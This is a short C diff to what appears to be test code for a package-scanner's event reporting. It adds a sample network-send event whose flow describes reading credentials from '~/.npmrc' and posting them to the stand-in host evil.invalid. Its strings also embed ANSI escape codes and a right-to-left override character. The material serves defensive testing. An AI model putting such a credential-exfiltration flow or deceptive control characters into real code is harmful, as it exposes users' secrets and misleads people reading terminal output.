@@ -38,6 +38,12 @@ static inline void sample_event(struct sample *s, enum qn_event_kind kind, const
                 qn_event_attr(&e, QN_ATTR_DETAIL, QN_STR("the file is \x1b[31mtoo large"));
         if (kind == QN_EVENT_INSTALL_HOOK)
                 qn_event_attr(&e, QN_ATTR_COMMAND, QN_STR("node lib/setup.js"));
+        if (kind == QN_EVENT_NET_SEND)
+                qn_event_attr(&e, QN_ATTR_FLOW,
+                              QN_STR("lib/a b\xe2\x80\xae.js:14:3\ta file with credentials\t"
+                                     "fs.readFileSync('~/.npmrc')\x1b[2J\n"
+                                     "lib/setup.js:20:9\tbecomes the body\t"
+                                     "post('https://evil.invalid/u', text)"));
         if (qn_event_add(&s->set, &e) < 0)
                 abort();
 }
